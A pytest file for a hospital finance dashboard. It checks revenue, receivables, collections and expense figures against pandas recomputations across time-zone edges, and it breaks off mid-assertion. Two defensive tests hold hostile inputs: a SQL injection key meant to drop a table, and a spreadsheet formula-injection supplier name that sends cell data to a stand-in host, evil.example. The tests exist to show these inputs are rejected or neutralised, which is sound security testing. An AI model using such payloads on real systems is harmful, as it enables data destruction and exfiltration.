"""Every finance dashboard figure equals an independent pandas recomputation over the raw rows.

The ledger is made with the billing services (charges, discounts, issue, claims and
remittances, partial payments, an overpayment that becomes credit, credit used on a later
invoice, a refund, a void that re-bills) and then moved in time, row by row, onto the awkward
edges: the last minutes of a month in the hospital's time zone that are already the next month
in UTC, local midnight itself, the day daylight saving starts, a void made in the month after
the issue. A few rows the services would never write on those dates (a draft with lines, an
issued invoice one second before the period) are inserted by hand.

The pandas side reads ``SELECT *`` of each small table, converts times with pandas' own time-zone
database and applies the written definitions (``hms_app/analytics/finance/``); nothing of the
SQL side is reused. Both run on SQLite and PostgreSQL, in UTC and in New York.
"""

from __future__ import annotations

import csv
import io
import uuid
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

import pandas as pd
import pytest
from sqlalchemy import select, text, update

from hms_app.analytics.finance import figures
from hms_app.analytics.finance.common import (
    BUCKET_LABELS,
    BUCKETS,
    FinanceFilters,
    check_filters,
    frame_csv,
    money,
)
from hms_app.errors import Forbidden, ValidationError
from hms_app.models.billing import (
    ChargeItem,
    ChargeItemDefinition,
    Invoice,
    InvoiceLine,
    Payment,
    Remittance,
)
from hms_app.models.organization import Department
from hms_app.models.patients import Coverage, Payer
from hms_app.models.security import AuditEvent
from hms_app.services import patients
from hms_app.services.billing import charges, claims, expenses, invoices, payments
from hms_app.services.billing import finance_reports as reports
from hms_app.services.permissions import SYSTEM_ACTOR, Actor
from hms_app.settings import get_settings

MANAGER = Actor(
    user_id=8,
    username="manager",
    roles=frozenset({"manager"}),
    permissions=frozenset({"billing.read", "billing.void", "analytics.read"}),
)
CLERK = Actor(
    user_id=7,
    username="billing",
    roles=frozenset({"billing_clerk"}),
    permissions=frozenset({"patient.read", "billing.read", "billing.post"}),
)
PERIOD = FinanceFilters(start=date(2026, 1, 1), end=date(2026, 3, 31))


def utc(*parts) -> datetime:
    return datetime(*parts, tzinfo=UTC)


def key() -> str:
    return f"fin-{uuid.uuid4().hex}"


# --------------------------------------------------------------------------- the ledger


def _charge(session, patient_id, code, *, quantity=1):
    return charges.post_charge(
        session,
        actor=SYSTEM_ACTOR,
        patient_id=patient_id,
        code=code,
        quantity=quantity,
        source_type="manual",
        reason="finance test",
    )


def _invoice(session, patient_id, *codes, discount_on: str | None = None, discount: int = 0):
    charges = [_charge(session, patient_id, code) for code in codes]
    draft = invoices.draft_invoice(
        session, actor=SYSTEM_ACTOR, patient_id=patient_id, charge_ids=[c.id for c in charges]
    )
    if discount_on:
        line = session.execute(
            select(InvoiceLine).where(InvoiceLine.invoice_id == draft.id, InvoiceLine.code == discount_on)
        ).scalar_one()
        invoices.set_line_discount(
            session, actor=SYSTEM_ACTOR, line_id=line.id, discount_cents=discount, reason="goodwill"
        )
    invoice = invoices.issue_invoice(session, actor=SYSTEM_ACTOR, invoice_id=draft.id)
    return invoice, charges


def _retime(session, model, row_id: int, **values) -> None:
    session.execute(update(model).where(model.id == row_id).values(**values))
    session.commit()


def _pay(session, patient_id, invoice_id, cents, method="cash"):
    return payments.post_payment(
        session,
        actor=SYSTEM_ACTOR,
        patient_id=patient_id,
        amount_cents=cents,
        method=method,
        idempotency_key=key(),
        invoice_id=invoice_id,
    )


def _due(session, invoice_id) -> int:
    session.expire_all()
    invoice = session.get(Invoice, invoice_id)
    return invoice.patient_share_cents - invoice.patient_paid_cents


@pytest.fixture(params=["UTC", "America/New_York"])
def ledger(request, session, monkeypatch):
    monkeypatch.setenv("HMS_TIME_ZONE", request.param)
    get_settings.cache_clear()
    gen, card, lab = (
        Department(code="GEN", name="General Medicine"),
        Department(code="CARD", name="Cardiology"),
        Department(code="LAB", name="Laboratory", kind="diagnostic"),
    )
    session.add_all([gen, card, lab])
    session.flush()
    session.add_all(
        [
            ChargeItemDefinition(
                code="VISIT", name="Consultation", category="visit", department_id=gen.id, price_cents=8000
            ),
            ChargeItemDefinition(
                code="ECG",
                name="Electrocardiogram",
                category="procedure",
                department_id=card.id,
                price_cents=4575,
                tax_rate_bp=825,
            ),
            ChargeItemDefinition(
                code="CBC",
                name="Full blood count",
                category="lab",
                department_id=lab.id,
                price_cents=3333,
                tax_rate_bp=825,
            ),
            ChargeItemDefinition(
                code="DRUG", name="Amoxicillin 500 mg", category="drug", price_cents=1250, tax_rate_bp=500
            ),
        ]
    )
    acme = Payer(code="ACME", name="Acme Health")
    session.add(acme)
    session.flush()

    def person(given, family):
        return patients.register_patient(
            session,
            actor=SYSTEM_ACTOR,
            data={"given_name": given, "family_name": family, "sex": "female", "birth_date": "1970-05-06"},
        ).id

    sam, ina, val, ora = (
        person("Sam", "Selfpay"),
        person("Ina", "Insured"),
        person("Val", "Voided"),
        person("Ora", "Open"),
    )
    session.add(
        Coverage(
            patient_id=ina,
            payer_id=acme.id,
            plan_name="Gold",
            member_id="ACM-100",
            valid_from=date(2020, 1, 1),
            copay_cents=2000,
            coinsurance_percent=20,
        )
    )
    session.commit()

    # Sam, self-pay: issued 22:30 on 31 January in New York (already 1 February in UTC), with a
    # discounted drug line without department; a partial cash payment; part of it refunded at
    # 23:59 on 28 February in New York (1 March in UTC).
    s1, s1_charges = _invoice(session, sam, "VISIT", "DRUG", "CBC", discount_on="DRUG", discount=100)
    _retime(session, Invoice, s1.id, issued_at=utc(2026, 2, 1, 3, 30))
    for charge, moment in zip(
        s1_charges, [utc(2026, 1, 31, 20), utc(2026, 2, 1, 4, 59), utc(2026, 2, 1, 5, 0)], strict=True
    ):
        _retime(session, ChargeItem, charge.id, entered_at=moment)
    cash = _pay(session, sam, s1.id, 5000)
    _retime(session, Payment, cash.id, received_at=utc(2026, 2, 1, 4, 30))
    refund = payments.refund_payment(
        session,
        actor=SYSTEM_ACTOR,
        payment_id=cash.id,
        amount_cents=1000,
        reason="overcharged",
        idempotency_key=key(),
    )
    _retime(session, Payment, refund.id, received_at=utc(2026, 3, 1, 4, 59))

    # Ina, insured: the claim is paid short and closed, the rest moves to her; she overpays
    # (the excess becomes credit) on the day daylight saving starts, and uses the credit on a
    # second invoice issued at 23:30 on 31 March in New York (1 April in UTC).
    i1, i1_charges = _invoice(session, ina, "VISIT", "ECG")
    _retime(session, Invoice, i1.id, issued_at=utc(2026, 1, 15, 12))
    for charge in i1_charges:
        _retime(session, ChargeItem, charge.id, entered_at=utc(2026, 1, 14, 16))
    claim = claims.create_claim(session, actor=SYSTEM_ACTOR, invoice_id=i1.id)
    claims.submit_claim(session, actor=SYSTEM_ACTOR, claim_id=claim.id)
    remittance = claims.post_remittance(
        session,
        actor=SYSTEM_ACTOR,
        claim_id=claim.id,
        amount_cents=claim.amount_claimed_cents - 1234,
        idempotency_key=key(),
    )
    _retime(session, Payment, remittance.payment_id, received_at=utc(2026, 2, 20, 15))
    _retime(session, Remittance, remittance.id, posted_at=utc(2026, 2, 20, 15))
    card_payment = _pay(session, ina, i1.id, _due(session, i1.id) + 2500, method="card")
    _retime(session, Payment, card_payment.id, received_at=utc(2026, 3, 8, 6, 30))
    i2, i2_charges = _invoice(session, ina, "CBC")
    _retime(session, Invoice, i2.id, issued_at=utc(2026, 4, 1, 3, 30))
    _retime(session, ChargeItem, i2_charges[0].id, entered_at=utc(2026, 4, 1, 3, 0))
    credit_used = _pay(session, ina, i2.id, min(2500, _due(session, i2.id)), method="credit")
    _retime(session, Payment, credit_used.id, received_at=utc(2026, 4, 1, 3, 40))

    # Val: paid in full, voided in February (the payment becomes credit), re-billed on a new
    # invoice that the credit pays in part.
    v1, v1_charges = _invoice(session, val, "ECG", "VISIT")
    _retime(session, Invoice, v1.id, issued_at=utc(2026, 1, 10, 9))
    for charge in v1_charges:
        _retime(session, ChargeItem, charge.id, entered_at=utc(2026, 1, 9, 9))
    paid_v1 = _pay(session, val, v1.id, _due(session, v1.id), method="transfer")
    _retime(session, Payment, paid_v1.id, received_at=utc(2026, 1, 12, 10))
    invoices.void_invoice(session, actor=SYSTEM_ACTOR, invoice_id=v1.id, reason="wrong patient plan")
    _retime(session, Invoice, v1.id, voided_at=utc(2026, 2, 10, 14))
    v2_id = session.execute(select(Invoice.replaced_by_id).where(Invoice.id == v1.id)).scalar_one()
    v2 = invoices.issue_invoice(session, actor=SYSTEM_ACTOR, invoice_id=v2_id)
    _retime(session, Invoice, v2.id, issued_at=utc(2026, 2, 10, 15))
    partial_credit = _pay(session, val, v2.id, 3000, method="credit")
    _retime(session, Payment, partial_credit.id, received_at=utc(2026, 2, 11, 9))

    # Una: never paid, voided in March without re-billing: a receivable in January and
    # February, nobody's revenue and nobody's receivable once voided.
    una = person("Una", "Unpaid")
    u1, u1_charges = _invoice(session, una, "CBC", "ECG")
    _retime(session, Invoice, u1.id, issued_at=utc(2026, 1, 5, 15))
    _retime(session, ChargeItem, u1_charges[0].id, entered_at=utc(2026, 1, 5, 14))
    invoices.void_invoice(
        session, actor=SYSTEM_ACTOR, invoice_id=u1.id, reason="duplicate bill", rebill=False
    )
    _retime(session, Invoice, u1.id, voided_at=utc(2026, 3, 2, 16))

    # Ora: charges not invoiced yet, one of them voided; one entered at local midnight.
    open_visit = _charge(session, ora, "VISIT")
    _retime(session, ChargeItem, open_visit.id, entered_at=utc(2026, 3, 1, 5, 0))
    open_lab = _charge(session, ora, "CBC")
    _retime(session, ChargeItem, open_lab.id, entered_at=utc(2026, 3, 31, 23))
    voided = _charge(session, ora, "ECG")
    charges.void_charge(session, actor=SYSTEM_ACTOR, charge_id=voided.id, reason="entered twice")
    _retime(session, ChargeItem, voided.id, entered_at=utc(2026, 2, 14, 12))
    # A payment on account (no invoice) at 00:30 UTC on 1 January: still December in New York.
    on_account = _pay(session, ora, None, 777)
    _retime(session, Payment, on_account.id, received_at=utc(2026, 1, 1, 0, 30))

    # By hand: an issued invoice one second before New York's January, and a draft with lines.
    for status, moment, number in (
        ("issued", utc(2026, 1, 1, 4, 59, 59), "INV-HAND-1"),
        ("draft", None, None),
    ):
        invoice = Invoice(
            patient_id=ora,
            status=status,
            number=number,
            subtotal_cents=10000,
            tax_cents=0,
            total_cents=10000,
            patient_share_cents=10000,
            created_by="test",
            issued_at=moment,
        )
        session.add(invoice)
        session.flush()
        session.add(
            InvoiceLine(
                invoice_id=invoice.id,
                code="VISIT",
                description="Consultation",
                department_id=gen.id,
                unit_price_cents=10000,
                line_total_cents=10000,
                patient_share_cents=10000,
            )
        )
    session.commit()

    for category, dept, day, amount in (
        ("supplies", lab.id, "2026-01-31", "123.45"),
        ("staff", gen.id, "2026-02-01", "10000.00"),
        ("rent", None, "2026-03-15", "5000.00"),
        ("utilities", card.id, "2026-03-31", "0.99"),
        ("drugs", gen.id, "2025-12-31", "999.99"),
        ("supplies", gen.id, "2026-04-01", "1.00"),
    ):
        expenses.record_expense(
            session,
            actor=SYSTEM_ACTOR,
            data={
                "category": category,
                "department_id": str(dept or ""),
                "supplier": "Medline",
                "description": "Monthly",
                "amount": amount,
                "incurred_on": day,
            },
        )
    return {
        "gen": gen.id,
        "card": card.id,
        "lab": lab.id,
        "acme": acme.id,
        "tz": request.param,
        "v1": v1.id,
        "u1": u1.id,
    }


# --------------------------------------------------------------------------- the pandas side


def raw(session, table: str) -> pd.DataFrame:
    frame = pd.read_sql(text(f"SELECT * FROM {table}"), session.connection())
    for column in frame.columns:
        if column.endswith("_at"):
            frame[column] = pd.to_datetime(frame[column], utc=True, format="mixed")
    return frame


def local_day(series: pd.Series) -> pd.Series:
    return series.dt.tz_convert(get_settings().time_zone).dt.date


def local_month(series: pd.Series) -> pd.Series:
    return series.dt.tz_convert(get_settings().time_zone).dt.strftime("%Y-%m")


def in_period(days: pd.Series, filters: FinanceFilters) -> pd.Series:
    return (days >= filters.start) & (days <= filters.end)


def months(filters: FinanceFilters) -> list[str]:
    return sorted(
        {
            (filters.start + timedelta(days=d)).strftime("%Y-%m")
            for d in range((filters.end - filters.start).days + 1)
        }
    )


def revenue_lines(session, filters: FinanceFilters) -> pd.DataFrame:
    lines = raw(session, "invoice_line").merge(
        raw(session, "invoice"), left_on="invoice_id", right_on="id", suffixes=("", "_invoice")
    )
    lines = lines[(lines["status"] == "issued") & in_period(local_day(lines["issued_at"]), filters)]
    if filters.department_id is not None:
        lines = lines[lines["department_id"] == filters.department_id]
    return lines.assign(month=local_month(lines["issued_at"]))


def expected_revenue_by_month(session, filters):
    lines = revenue_lines(session, filters)
    grouped = lines.groupby("month")[["line_total_cents", "tax_cents"]].sum()
    return [
        (m, int(grouped["line_total_cents"].get(m, 0)), int(grouped["tax_cents"].get(m, 0)))
        for m in months(filters)
    ]


def expected_by(session, filters, column) -> dict:
    lines = revenue_lines(session, filters)
    return {
        (None if pd.isna(k) else int(k) if column != "code" else k): int(v)
        for k, v in lines.groupby(column, dropna=False)["line_total_cents"].sum().items()
    }


def expected_charges_collections(session, filters):
    charges = raw(session, "charge_item")
    charges = charges[(charges["status"] != "void") & in_period(local_day(charges["entered_at"]), filters)]
    if filters.department_id is not None:
        charges = charges[charges["department_id"] == filters.department_id]
    charges = charges.assign(
        value=charges["quantity"] * charges["unit_price_cents"], month=local_month(charges["entered_at"])
    )
    payments = raw(session, "payment")
    payments = payments[
        (payments["method"] != "credit") & in_period(local_day(payments["received_at"]), filters)
    ]
    payments = payments.assign(month=local_month(payments["received_at"]))
    by_charge = charges.groupby("month")["value"].sum()
    by_payment = payments.groupby("month")["amount_cents"].sum()
    return [(m, int(by_charge.get(m, 0)), int(by_payment.get(m, 0))) for m in months(filters)]


def expected_balances(session, as_of: date) -> pd.DataFrame:
    invoices = raw(session, "invoice")
    payments = raw(session, "payment")
    tz = get_settings().time_zone
    issued_day = local_day(invoices["issued_at"])
    voided_day = invoices["voided_at"].dt.tz_convert(tz).dt.date
    alive = (
        invoices["status"].isin(["issued", "void"])
        & invoices["issued_at"].notna()
        & (issued_day <= as_of)
        & (invoices["voided_at"].isna() | (voided_day > as_of))
    )
    invoices = invoices[alive].assign(issued_day=issued_day[alive])
    received = payments[payments["invoice_id"].notna() & (local_day(payments["received_at"]) <= as_of)]
    paid = received.groupby("invoice_id")["applied_cents"].sum()
    invoices = invoices.assign(
        balance=invoices["total_cents"] - invoices["id"].map(paid).fillna(0).astype(int)
    )
    invoices = invoices[invoices["balance"] > 0]
    ages = invoices["issued_day"].map(lambda d: (as_of - d).days)
    bucket = pd.cut(ages, bins=[-1, 30, 60, 90, 10**6], labels=list(BUCKETS))
    return invoices.assign(age=ages, bucket=bucket.astype(str))


def expected_expenses(session, filters):
    rows = raw(session, "expense")
    rows["incurred_on"] = pd.to_datetime(rows["incurred_on"]).dt.date
    rows = rows[in_period(rows["incurred_on"], filters)]
    if filters.department_id is not None:
        rows = rows[rows["department_id"] == filters.department_id]
    return rows.assign(month=rows["incurred_on"].map(lambda d: d.strftime("%Y-%m")))


# --------------------------------------------------------------------------- the figures


def filter_cases(ledger) -> list[FinanceFilters]:
    return [
        PERIOD,
        FinanceFilters(start=date(2026, 1, 1), end=date(2026, 3, 31), department_id=ledger["card"]),
        FinanceFilters(start=date(2026, 1, 1), end=date(2026, 3, 31), department_id=ledger["gen"]),
        FinanceFilters(start=date(2026, 2, 1), end=date(2026, 2, 28)),  # one month
        FinanceFilters(start=date(2025, 12, 31), end=date(2026, 4, 1), as_of=date(2026, 2, 28)),
        FinanceFilters(
            start=date(2026, 1, 20), end=date(2026, 3, 1), as_of=date(2026, 1, 31)
        ),  # mid-month edges
    ]


def test_revenue_by_month_department_service_and_payer_equal_the_raw_lines(session, ledger):
    for filters in filter_cases(ledger):
        frame = reports.revenue_by_month(session, actor=MANAGER, filters=filters)
        got = [(r.month, int(r.revenue_cents), int(r.tax_cents)) for r in frame.itertuples()]
        assert got == expected_revenue_by_month(session, filters), filters

        by_department = reports.revenue_by_department(session, actor=MANAGER, filters=filters)
        got = {
            None if k == "none" else int(k): int(v)
            for k, v in zip(by_department["key"], by_department["revenue_cents"], strict=True)
        }
        assert got == expected_by(session, filters, "department_id"), filters

        by_service = reports.revenue_by_service(session, actor=MANAGER, filters=filters)
        assert dict(
            zip(by_service["key"], map(int, by_service["revenue_cents"]), strict=True)
        ) == expected_by(session, filters, "code")

        payers = reports.payer_mix(session, actor=MANAGER, filters=filters)
        got = {
            None if k == "self" else int(k): int(v)
            for k, v in zip(payers["key"], payers["revenue_cents"], strict=True)
        }
        assert got == expected_by(session, filters, "payer_id"), filters
        # Every split of the period's revenue adds up to the same total, to the cent.
        total = int(frame["revenue_cents"].sum())
        assert int(by_department["revenue_cents"].sum()) == total
        assert int(by_service["revenue_cents"].sum()) == total
        assert int(payers["revenue_cents"].sum()) == total


def test_the_edges_land_in_the_hospitals_months(session, ledger):
    frame = reports.revenue_by_month(session, actor=MANAGER, filters=PERIOD).set_index("month")
    lines = raw(session, "invoice_line").merge(raw(session, "invoice"), left_on="invoice_id", right_on="id")
    sam_total = int(
        lines[
            lines["number"]
            == session.execute(
                select(Invoice.number).where(Invoice.issued_at == utc(2026, 2, 1, 3, 30))
            ).scalar_one()
        ]["line_total_cents"].sum()
    )
    january, february = int(frame.loc["2026-01", "revenue_cents"]), int(frame.loc["2026-02", "revenue_cents"])
    if ledger["tz"] == "America/New_York":
        # Issued 22:30 on 31 January there: January revenue. The hand-made invoice one second
        # before New York's January is outside the period.
        assert january >= sam_total
        assert 10000 not in (january, february)
        assert "INV-HAND-1" not in _listed_numbers(session, "revenue_by_month", "2026-01")
        assert "INV-HAND-1" in _listed_numbers(
            session, "revenue_by_month", "2025-12", start=date(2025, 12, 1)
        )
    else:
        assert "INV-HAND-1" in _listed_numbers(session, "revenue_by_month", "2026-01")
    # The issue at 23:30 on 31 March in New York is March there and April in UTC.
    march_numbers = _listed_numbers(session, "revenue_by_month", "2026-03")
    i2_number = session.execute(
        select(Invoice.number).where(Invoice.issued_at == utc(2026, 4, 1, 3, 30))
    ).scalar_one()
    assert (i2_number in march_numbers) == (ledger["tz"] == "America/New_York")
    # The voided invoice is no one's revenue, its re-billed replacement is February's.
    v1_number = session.execute(select(Invoice.number).where(Invoice.id == ledger["v1"])).scalar_one()
    assert all(
        v1_number not in _listed_numbers(session, "revenue_by_month", m)
        for m in ("2026-01", "2026-02", "2026-03")
    )


def _listed_numbers(session, figure, key, start=date(2026, 1, 1)) -> list[str]:
    filters = FinanceFilters(start=start, end=date(2026, 3, 31))
    page = reports.invoices_behind(
        session, actor=MANAGER, figure=figure, key=key, filters=filters, page_size=200
    )
    return [row.reference for row in page.rows]


def test_charges_against_collections_net_of_refunds_without_credit_moves(session, ledger):
    for filters in filter_cases(ledger):
        frame = reports.charges_vs_collections(session, actor=MANAGER, filters=filters)
        expected = expected_charges_collections(session, filters)
        got = [(r.month, int(r.charges_cents), int(r.collections_cents)) for r in frame.itertuples()]
        assert got == expected, filters
    # Credit moved onto an invoice is not money received; the refund is taken off.
    payments = raw(session, "payment")
    assert (payments["method"] == "credit").any() and (payments["amount_cents"] < 0).any()


def test_ar_aging_and_top_balances_equal_payments_received_by_the_day(session, ledger):
    for as_of in (
        date(2026, 1, 31),
        date(2026, 2, 10),
        date(2026, 2, 28),
        date(2026, 3, 31),
        date(2026, 5, 15),
    ):
        filters = FinanceFilters(start=date(2026, 1, 1), end=date(2026, 3, 31), as_of=as_of)
        expected = expected_balances(session, as_of)
        frame = reports.ar_aging(session, actor=MANAGER, filters=filters)
        for row in frame.itertuples():
            chosen = expected[expected["bucket"] == row.bucket]
            assert (int(row.invoices), int(row.balance_cents)) == (
                len(chosen),
                int(chosen["balance"].sum()),
            ), (as_of, row.bucket)
        top = reports.top_outstanding(session, actor=MANAGER, filters=filters)
        ordered = expected.sort_values(["balance", "issued_at", "id"], ascending=[False, True, True]).head(10)
        assert list(top["invoice_id"]) == [int(i) for i in ordered["id"]]
        assert list(top["balance_cents"]) == [int(b) for b in ordered["balance"]]
        assert list(top["age_days"]) == [int(a) for a in ordered["age"]]
    # Una's unpaid invoice was a receivable until its void in March; Val's was paid in full
    # before its void, so never one on these days.
    for as_of, owed in ((date(2026, 2, 28), True), (date(2026, 3, 1), True), (date(2026, 3, 2), False)):
        filters = FinanceFilters(start=date(2026, 1, 1), end=date(2026, 3, 31), as_of=as_of)
        page = reports.invoices_behind(
            session, actor=MANAGER, figure="ar_aging", key="31-60", filters=filters
        )
        listed = {row.row_id for row in page.rows}
        assert (ledger["u1"] in listed) == owed, as_of
        assert ledger["v1"] not in listed


def test_outstanding_today_equals_the_ledgers_paid_columns(session, ledger):
    """The as-of sums of payments agree with what billing keeps on each invoice."""
    filters = FinanceFilters(start=date(2026, 1, 1), end=date(2026, 3, 31), as_of=date(2026, 6, 1))
    aging = reports.ar_aging(session, actor=MANAGER, filters=filters)
    invoices = raw(session, "invoice")
    issued = invoices[invoices["status"] == "issued"]
    owed = issued["total_cents"] - issued["patient_paid_cents"] - issued["payer_paid_cents"]
    assert int(aging["balance_cents"].sum()) == int(owed[owed > 0].sum())
    assert int(aging["invoices"].sum()) == int((owed > 0).sum())


def test_expenses_by_month_category_and_against_revenue(session, ledger):
    for filters in filter_cases(ledger):
        rows = expected_expenses(session, filters)
        by_month = reports.expenses_by_month(session, actor=MANAGER, filters=filters)
        grouped = rows.groupby("month")["amount_cents"].sum()
        assert [(r.month, int(r.expenses_cents)) for r in by_month.itertuples()] == [
            (m, int(grouped.get(m, 0))) for m in months(filters)
        ]
        by_category = reports.expenses_by_category(session, actor=MANAGER, filters=filters)
        assert dict(zip(by_category["key"], map(int, by_category["expenses_cents"]), strict=True)) == {
            k: int(v) for k, v in rows.groupby("category")["amount_cents"].sum().items()
        }
        versus = reports.expenses_vs_revenue(session, actor=MANAGER, filters=filters)
        revenue = dict((m, r) for m, r, _t in expected_revenue_by_month(session, filters))
        for row in versus.itertuples():
            assert int(row.revenue_cents) == revenue[row.month]
            assert int(row.expenses_cents) == int(grouped.get(row.month, 0))
            assert int(row.margin_cents) == revenue[row.month] - int(grouped.get(row.month, 0))


def test_kpis_are_the_sums_of_the_figures(session, ledger):
    dashboard = reports.load_dashboard(session, actor=MANAGER, filters=PERIOD)
    kpis = dashboard.kpis
    assert kpis["revenue_cents"] == sum(r for _m, r, _t in expected_revenue_by_month(session, PERIOD))
    assert kpis["collections_cents"] == sum(c for _m, _ch, c in expected_charges_collections(session, PERIOD))
    assert kpis["outstanding_cents"] == int(expected_balances(session, PERIOD.end)["balance"].sum())
    assert kpis["expenses_cents"] == int(expected_expenses(session, PERIOD)["amount_cents"].sum())
    assert kpis["revenue_cents"] > 0 and kpis["collections_cents"] > 0 and kpis["outstanding_cents"] > 0


@pytest.mark.parametrize("department", [None, "card"])
def test_every_bar_lists_exactly_the_rows_behind_it(session, ledger, department):
    """Click any bar or slice: its list adds up to the bar, page after page, and is audited
    (without a department whole invoices are listed; with one, the invoices of its lines)."""
    filters = replace(PERIOD, department_id=ledger[department] if department else None)
    dashboard = reports.load_dashboard(session, actor=MANAGER, filters=filters)
    clicks = [
        ("revenue_by_month", m, int(v))
        for m, v in zip(
            dashboard.revenue_month["month"], dashboard.revenue_month["revenue_cents"], strict=True
        )
    ]
    clicks += [
        ("revenue_by_department", k, int(v))
        for k, v in zip(
            dashboard.revenue_department["key"], dashboard.revenue_department["revenue_cents"], strict=True
        )
    ]
    clicks += [
        ("revenue_by_service", k, int(v))
        for k, v in zip(
            dashboard.revenue_service["key"], dashboard.revenue_service["revenue_cents"], strict=True
        )
    ]
    clicks += [
        ("payer_mix", k, int(v))
        for k, v in zip(dashboard.payers["key"], dashboard.payers["revenue_cents"], strict=True)
    ]
    clicks += [
        ("ar_aging", k, int(v))
        for k, v in zip(dashboard.aging["bucket"], dashboard.aging["balance_cents"], strict=True)
    ]
    for row in dashboard.charges_collections.itertuples():
        clicks += [("charges_vs_collections", f"{row.month}|charges", int(row.charges_cents))]
        clicks += [("charges_vs_collections", f"{row.month}|collections", int(row.collections_cents))]
    for row in dashboard.expenses_revenue.itertuples():
        clicks += [("expenses_vs_revenue", f"{row.month}|revenue", int(row.revenue_cents))]
        clicks += [("expenses_vs_revenue", f"{row.month}|expenses", int(row.expenses_cents))]
    clicks += [
        ("expenses_by_category", k, int(v))
        for k, v in zip(
            dashboard.expenses_category["key"], dashboard.expenses_category["expenses_cents"], strict=True
        )
    ]
    assert len(clicks) > 20
    for figure, bar, cents in clicks:
        first = reports.invoices_behind(
            session, actor=MANAGER, figure=figure, key=bar, filters=filters, page_size=2
        )
        assert first.amount_cents == cents, (figure, bar)
        listed, page = [], first
        while True:
            listed += page.rows
            if page.page * page.page_size >= page.total:
                break
            page = reports.invoices_behind(
                session,
                actor=MANAGER,
                figure=figure,
                key=bar,
                filters=filters,
                page=page.page + 1,
                page_size=2,
            )
        assert len(listed) == first.total
        assert len({r.row_id for r in listed}) == first.total  # no row twice across pages
        assert sum(r.amount_cents for r in listed) == cents, (figure, bar)
        text_csv, count = reports.drill_csv(session, actor=MANAGER, figure=figure, key=bar, filters=filters)
        rows = list(csv.reader(io.StringIO(text_csv)))
        assert count == first.total == len(rows) - 1
        assert sum(int(r[4]) for r in rows[1:]) == cents
    listings = (
        session.execute(select(AuditEvent).where(AuditEvent.action == "finance.invoices_listed"))
        .scalars()
        .all()
    )
    assert listings and all(e.username == "manager" for e in listings)


def test_drill_down_lists_patients_one_audit_row_per_listing(session, ledger):
    before = session.execute(select(AuditEvent.id).where(AuditEvent.action.like("finance.%"))).all()
    page = reports.invoices_behind(
        session,
        actor=MANAGER,
        figure="ar_aging",
        key="0-30",
        filters=FinanceFilters(start=date(2026, 1, 1), end=date(2026, 3, 31), as_of=date(2026, 2, 20)),
    )
    assert page.rows and all("(" in row.who for row in page.rows)  # names with MRNs
    # Each heading names its column: the amount of a bucket's row is what is still owed.
    assert page.headings[4] == "Outstanding" and page.headings[5] == "Invoice total"
    owed = expected_balances(session, date(2026, 2, 20)).set_index("id")
    for row in page.rows:
        assert row.amount_cents == int(owed.loc[row.row_id, "balance"])
        assert row.extra == money(int(owed.loc[row.row_id, "total_cents"]))
    events = session.execute(select(AuditEvent).where(AuditEvent.action.like("finance.%"))).scalars().all()
    assert len(events) == len(before) + 1
    assert events[-1].action == "finance.invoices_listed" and "ar_aging 0-30" in events[-1].detail
    reports.top_outstanding(session, actor=MANAGER, filters=PERIOD)
    assert (
        session.execute(select(AuditEvent.action).order_by(AuditEvent.id.desc()).limit(1)).scalar_one()
        == "finance.balances_listed"
    )


def test_figure_tables_export_as_csv_with_readable_amounts(session, ledger):
    frame = reports.revenue_by_department(session, actor=MANAGER, filters=PERIOD)
    rows = list(csv.DictReader(io.StringIO(frame_csv(frame))))
    assert len(rows) == len(frame)
    for row, cents in zip(rows, frame["revenue_cents"], strict=True):
        assert int(row["revenue_cents"]) == int(cents)
        assert row["revenue"] == money(int(cents))


def test_refusals_and_nonsense_from_the_browser(session, ledger):
    with pytest.raises(Forbidden):
        reports.revenue_by_month(session, actor=CLERK, filters=PERIOD)
    with pytest.raises(Forbidden):
        reports.invoices_behind(
            session, actor=CLERK, figure="revenue_by_month", key="2026-01", filters=PERIOD
        )
    bad = [
        ("revenue_by_month", "2026-13"),
        ("revenue_by_month", "2027-01"),
        ("revenue_by_month", "'; drop table invoice; --"),
        ("nope", "2026-01"),
        ("ar_aging", "120+"),
        ("revenue_by_department", "x1"),
        ("charges_vs_collections", "2026-01|refunds"),
    ]
    for figure, bar in bad:
        with pytest.raises(ValidationError):
            reports.invoices_behind(session, actor=MANAGER, figure=figure, key=bar, filters=PERIOD)
    with pytest.raises(ValidationError):
        check_filters(FinanceFilters(start=date(2026, 3, 1), end=date(2026, 2, 1)))
    with pytest.raises(ValidationError):
        check_filters(FinanceFilters(start=date(2016, 1, 1), end=date(2026, 2, 1)))
    with pytest.raises(ValidationError):
        reports.invoices_behind(
            session, actor=MANAGER, figure="revenue_by_month", key="2026-01", filters=PERIOD, page=0
        )


def test_money_is_formatted_from_exact_cents():
    assert money(123456) == "$1,234.56"
    assert money(-5) == "-$0.05"
    assert money(0) == "$0.00"
    assert money(10**12 + 1) == "$10,000,000,000.01"


def test_figures_draw_every_bar_with_its_exact_amount(session, ledger):
    dashboard = reports.load_dashboard(session, actor=MANAGER, filters=PERIOD)
    figure = figures.revenue_by_month_figure(dashboard.revenue_month)
    assert list(figure.data[0].x) == list(dashboard.revenue_month["month"])
    assert list(figure.data[0].text) == [money(v) for v in dashboard.revenue_month["revenue_cents"]]
    pie = figures.payer_mix_figure(dashboard.payers)
    assert list(pie.data[0].labels) == list(dashboard.payers["payer"]) and pie.data[0].sort is False
    aging = figures.ar_aging_figure(dashboard.aging)
    assert list(aging.data[0].x) == [BUCKET_LABELS[b] for b in BUCKETS]


def test_exports_never_hand_a_spreadsheet_a_formula(session, ledger):
    """A supplier typed as a formula would run in Excel when a manager opens the export."""
    expenses.record_expense(
        session,
        actor=SYSTEM_ACTOR,
        data={
            "category": "supplies",
            "department_id": "",
            "supplier": '=HYPERLINK("http://evil.example/?"&A1,"Medline")',
            "description": "Monthly",
            "amount": "12.00",
            "incurred_on": "2026-02-10",
        },
    )
    text_csv, _ = reports.drill_csv(
        session, actor=MANAGER, figure="expenses_by_category", key="supplies", filters=PERIOD
    )
    suppliers = [row[2] for row in csv.reader(io.StringIO(text_csv))][1:]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Medline")' in suppliers
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in suppliers)
    frame = pd.DataFrame(
        {"supplier": ["@SUM(A1:A9)", "-2+3", "Medline", "\tx"], "amount_cents": [1, -2, 3, 4]}
    )
    rows = list(csv.DictReader(io.StringIO(frame_csv(frame))))
    assert [row["supplier"] for row in rows] == ["'@SUM(A1:A9)", "'-2+3", "Medline", "'\tx"]
    assert [row["amount"] for row in rows] == [
        money(1),
        money(-2),
        money(3),
        money(4),
